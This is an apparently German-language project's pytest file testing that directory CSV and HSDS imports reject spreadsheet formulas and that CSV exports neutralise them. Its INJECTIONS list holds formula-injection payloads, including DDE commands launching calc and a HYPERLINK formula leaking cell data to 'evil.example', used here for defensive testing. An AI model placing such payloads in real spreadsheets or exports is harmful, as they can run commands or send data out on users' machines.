"""Formula injection: exports show formula-like cells as text, imports refuse formulas."""

import csv
import io
import json

import pytest

from quartier.core.spreadsheet import is_formula, neutralise, restore
from quartier.directory.actions import import_entries
from quartier.directory.csv_format import DirectoryImportError, export_csv, parse_csv
from quartier.directory.hsds_import import parse_hsds
from quartier.directory.models import DirectoryEntry

INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1;"Klick")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_formulas_are_recognised(value):
    assert is_formula(value)
    assert restore(neutralise(value)) == value
    assert neutralise(value).startswith("'")


@pytest.mark.parametrize("value", ["+49 2151 86-0", "-", "(02151) 86-0", "Café", "", "-5"])
def test_phone_numbers_and_text_are_no_formulas(value):
    assert not is_formula(value)


@pytest.mark.parametrize("value", INJECTIONS)
def test_csv_import_refuses_formulas_with_the_line(quarters, value):
    cell = '"' + value.replace('"', '""') + '"'
    raw = f"name;provider\r\nGut;Verein\r\nTreff;{cell}\r\n".encode()
    with pytest.raises(DirectoryImportError) as error:
        parse_csv(raw)
    assert "Zeile 3" in str(error.value) or "Zeile 4" in str(error.value)  # quoted line break
    assert "Tabellenformel" in str(error.value)


@pytest.mark.parametrize("value", INJECTIONS)
def test_hsds_import_refuses_formulas(quarters, value):
    service = {"id": "0b5c3a1e-8d9c-4e5f-9a6b-7c8d9e0f1a2b", "name": value, "status": "active"}
    with pytest.raises(DirectoryImportError) as error:
        parse_hsds(json.dumps(service).encode())
    assert "Tabellenformel" in str(error.value)


def test_csv_export_neutralises_formula_cells_and_reimports_them(coordinator, quarters):
    raw = b"name;provider;phone\r\nTreff;Verein;+49 2151 86-0\r\n"
    import_entries(actor=coordinator, entries=parse_csv(raw), source="csv")
    # Data that reached the database some other way (older version, admin typing it).
    DirectoryEntry.objects.update(notes=INJECTIONS[1], provider=INJECTIONS[0])
    entries = DirectoryEntry.objects.select_related("quarter").prefetch_related("topics")
    exported = export_csv(entries)
    rows = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff")), delimiter=";"))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "@", "\t", "\r")), value
            assert not value.startswith(("+", "-")) or not is_formula(value), value
    assert rows[0]["provider"] == "'" + INJECTIONS[0]
    # The protected cells are text again on import, and still refused as formulas.
    with pytest.raises(DirectoryImportError):
        parse_csv(exported.encode("utf-8"))
